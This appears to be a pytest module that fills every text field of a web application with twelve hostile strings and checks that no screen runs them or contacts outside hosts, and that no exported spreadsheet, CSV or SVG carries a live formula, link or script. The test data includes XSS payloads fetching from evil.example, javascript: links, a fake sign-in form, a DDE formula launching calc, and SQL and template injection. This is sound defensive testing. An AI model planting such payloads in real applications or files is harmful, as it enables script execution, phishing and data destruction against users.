"""Twelve texts that want to do harm, in every field that is stored: no screen obeys them, and no file does.

The screens are opened in a real Chromium that may ask nobody but our server; files are opened and read cell by cell.
"""

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from progressions.store import Store
from progressions.store.column_types import UnstorableTextError
from progressions.web import navigation
from tests.browser.server import RunningApp
from tests.factories import NOW
from tests.web import matrix, worlds
from tests.web.worlds import Size, World
from tests.wire.client import Tab

LONG = "W" * 65_536
HOSTILE = (
    "<script>window.hostile = 1; fetch('http://evil.example/script')</script>",
    "<img src=x onerror=\"window.hostile=1\"><img src='http://evil.example/img.png'>",
    "![picture](http://evil.example/markdown.png) ![](//evil.example/two.png)",
    "[click](javascript:window.hostile=1) <a href='http://evil.example/'>a</a> http://evil.example www.evil.example",
    "<iframe src='http://evil.example/frame'></iframe><object data='http://evil.example/o'></object>",
    "<form action='http://evil.example/form'><input name=code><button>Sign in</button></form>",
    '=HYPERLINK("http://evil.example/formula","click")',
    "\u202egnirts desrever\u202c \u2066isolated\u2069 @SUM(1+1)",
    LONG,
    "{{ 7 * 7 }} {%raw%} ${7*7} %s {0} :material/home: :red[red] $\\frac{1}{0}$ +1+cmd|' /C calc'!A0",
    "'; DROP TABLE ratings; -- \" OR 1=1 \\",
    "\U0001f469\u200d\U0001f52c\ufe0f\u200b\ufeff\u00ad a\u0301 \x01\x7f-1+1",
)
ROTATING = {
    "partnerships.title",
    "convenings.title",
    "levels.name",
    "domain_texts.title",
    "domain_texts.area",
    "descriptors.text",
    "ratings.evidence",
    "ratings.next_step",
    "ratings.next_step_owner",
}
# The figures without titles of 64 KB in them, whose lines take a drawing many seconds to measure.
DRAWN = ("/download/figures/stands.", "/download/figures/peers.")
CODES = {"partnerships.code", "rubrics.code", "domains.code", "domain_aliases.code"}
FORMULA = re.compile(r"^\s*[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


class Hostile:
    """Fields with many rows take turns; the others hold all twelve, with blank lines between them."""

    def text(self, field: str, number: int = 0, owner: int = -1) -> str:  # noqa: ARG002
        if field in ROTATING:
            return HOSTILE[number % len(HOSTILE)]
        chosen = HOSTILE if number == 0 else [text for text in HOSTILE if text != LONG]
        return "\n\n".join([*chosen, str(number)])

    def code(self, field: str, number: int = 0, owner: int = -1) -> str:  # noqa: ARG002
        return f"{field.partition('.')[0]}-{number}"


@dataclass(frozen=True)
class Place:
    app: RunningApp
    world: World
    session: str


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with worlds.running(tmp_path_factory.mktemp("hostile")) as (app, store):
        size = Size(partnerships=12, convenings=12, rubrics=2, domains=6, levels=6)
        world = worlds.build(store, "north", Hostile(), size)
        session = world.session(store, "staff")
        app.start()
        yield Place(app, world, session)


def test_every_text_column_of_the_store_holds_all_twelve(place: Place) -> None:
    """A column that comes later and is not filled here fails this: see ``worlds.NO_TEXT_OF_ANYBODY``."""
    assert worlds.columns_without(place.app.database, HOSTILE) - CODES == set()


@pytest.mark.parametrize("text", ["a\x00b", "\ud800", "x\udfff"])
def test_what_no_database_can_hold_is_refused(sqlite_store: Store, text: str) -> None:
    with pytest.raises(UnstorableTextError), sqlite_store.write_directory() as directory:
        directory.add_person(text, NOW)


@dataclass
class Watched:
    """A page that may ask our server alone, and what else it wanted."""

    page: Page
    wanted: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def watched(place: Place, browser: Browser) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    context.add_cookies([{"name": "progressions_session", "value": place.session, "url": place.app.url}])
    made = Watched(context.new_page())

    def judge(route: Route, request: Request) -> None:
        if request.url.startswith((place.app.url, "data:", "blob:")):
            route.continue_()
        else:
            made.wanted.append(request.url)
            route.abort()

    context.route("**/*", judge)
    made.page.on("dialog", lambda dialog: (made.dialogs.append(dialog.message), dialog.dismiss()))
    context.on("page", lambda opened: made.wanted.append(f"another page: {opened.url}"))
    yield made
    context.close()


VIEWS = {
    "home": ("", "partnership=partnerships-0", "whose=all&rubric=rubrics-1"),
    "self-assess": ("", "domain=domains-3", "rubric=rubrics-1&domain=domains-8"),
    "movement": ("view=all", "view=one", "view=two&rubric=rubrics-1", "view=peers"),
    "rubrics": ("", "rubric=rubrics-1"),
    "import": ("",),
    "people": ("",),
    "network": ("",),
}

FOREIGN_PARTS = """ours => {
  const found = [];
  const own = address => !address || new URL(address, location.href).origin === ours
    || /^(data|blob):/.test(address);
  for (const each of document.querySelectorAll('iframe, frame, object, embed, base, meta[http-equiv=refresh]'))
    found.push(each.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll('form'))
    if (each.getAttribute('action') || each.innerHTML.includes('name="code"')) found.push(each.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll('a[href], area[href], link[href]'))
    if (!own(each.getAttribute('href')) || /^javascript:/i.test(each.getAttribute('href')))
      found.push(each.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll('[src], [srcset], [data], [xlink\\\\:href]'))
    for (const name of ['src', 'srcset', 'data', 'xlink:href'])
      if (each.getAttribute(name) && !own(each.getAttribute(name))) found.push(each.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll('*'))
    for (const name of each.getAttributeNames()) if (/^on/.test(name)) found.push(each.outerHTML.slice(0, 200));
  if (window.hostile) found.push('a script ran');
  return found;
}"""


def test_every_screen_is_looked_at() -> None:
    assert set(VIEWS) == set(navigation.SCREENS)


@pytest.mark.browser
@pytest.mark.parametrize(("screen", "query"), [(screen, query) for screen in VIEWS for query in VIEWS[screen]])
def test_no_screen_obeys_what_is_stored(place: Place, watched: Watched, screen: str, query: str) -> None:
    page = watched.page
    page.goto(f"{place.app.url}/{screen}?{query}")
    page.locator("h1").first.wait_for()
    _settled(page)
    for opener in page.get_by_role("button", name="History").all()[:1]:
        opener.click()
        _settled(page)
    assert "Something went wrong" not in page.inner_text("body")
    assert page.evaluate(FOREIGN_PARTS, place.app.url) == []
    assert watched.wanted == []
    assert watched.dialogs == []
    assert [frame.url for frame in page.frames[1:]] == []


def _settled(page: Page) -> None:
    """Long texts take a while to draw: twelve of them 64 KB."""
    expect(page.locator("[data-test-script-state=running]")).to_have_count(0, timeout=60_000)
    page.wait_for_timeout(300)


def _files(world: World) -> list[str]:
    found = []
    for addresses in matrix.DOWNLOADS.values():
        for address, _may in addresses:
            rubric, days = world.rubrics[0], world.days
            known = {"partnership": world.partnerships[0], "rubric": rubric, "domain": world.domains[rubric][0]}
            asked = address.format(**known, then=days[0], now=days[-1])
            found.append(asked)
            if asked.startswith(DRAWN):
                found.append(asked.replace(".csv?", ".svg?"))
    return sorted({asked for asked in found if ".exe" not in asked})


def test_no_file_carries_a_live_formula_a_link_or_a_script(place: Place) -> None:
    read: dict[str, int] = {"xlsx": 0, "csv": 0, "svg": 0}
    with Tab(place.app.url, "/", place.session) as tab:
        for address in _files(place.world):
            status, body = tab.get(address)
            assert status == 200, address
            form = address.partition("?")[0].rpartition(".")[2]
            {"xlsx": _check_workbook, "csv": _check_csv, "svg": _check_drawing}[form](address, body)
            read[form] += 1
    assert min(read.values()) >= 2


def _check_workbook(address: str, body: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (address, sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (address, sheet.title, cell.coordinate)


def _check_csv(address: str, body: bytes) -> None:
    csv.field_size_limit(1_000_000)
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not FORMULA.match(cell) or NUMBER.match(cell), (address, cell[:80])


def _check_drawing(address: str, body: bytes) -> None:
    for element in ET.fromstring(body).iter():
        tag = element.tag.rpartition("}")[2]
        assert tag not in {"script", "foreignObject", "iframe", "image", "a"}, (address, tag)
        for name, value in element.attrib.items():
            assert not name.rpartition("}")[2].startswith("on"), (address, name)
            assert name.rpartition("}")[2] != "href" or value.startswith("#"), (address, value)
